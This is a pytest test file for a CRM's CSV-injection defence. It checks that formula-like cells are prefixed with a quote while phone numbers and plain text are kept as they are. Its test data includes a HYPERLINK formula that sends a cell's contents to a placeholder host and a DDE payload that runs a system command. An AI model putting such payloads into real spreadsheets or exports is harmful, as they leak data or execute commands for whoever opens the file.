"""CSV injection (OWASP): a cell a spreadsheet would read as a formula is written as text."""

import csv
import io

import pytest

from crm.spreadsheets import csv_writer, spreadsheet_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://x/?d="&B2,"Open")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",  # leading spaces do not stop every spreadsheet
        "\n@SUM(A1:A9)",
        "-",
        "+",
        "=",
    ],
)
def test_spreadsheet_cell_neutralises_a_formula_with_a_leading_quote(typed):
    assert spreadsheet_cell(typed) == "'" + typed


@pytest.mark.parametrize(
    "typed",
    [
        "+971501234567",  # a phone in E.164: kept dialable, on purpose (see crm.spreadsheets)
        "+971 50 123 4567",
        "+1 (555) 123 4567",
        "-3",
        "-12.5",
        "Sent prices",
        "Amal Haddad",
        "a=b",  # a formula sign later in the text is harmless
        "مريم العلي",
        "",
    ],
)
def test_spreadsheet_cell_keeps_plain_text_numbers_and_phones(typed):
    assert spreadsheet_cell(typed) == typed


def test_spreadsheet_cell_passes_non_text_through():
    assert spreadsheet_cell(None) is None
    assert spreadsheet_cell(-5) == -5


def test_csv_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)

    writer.writerow(["=1+1", "+971501234567", "ok"])
    writer.writerows([["@x", -2]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "+971501234567", "ok"],
        ["'@x", "-2"],
    ]
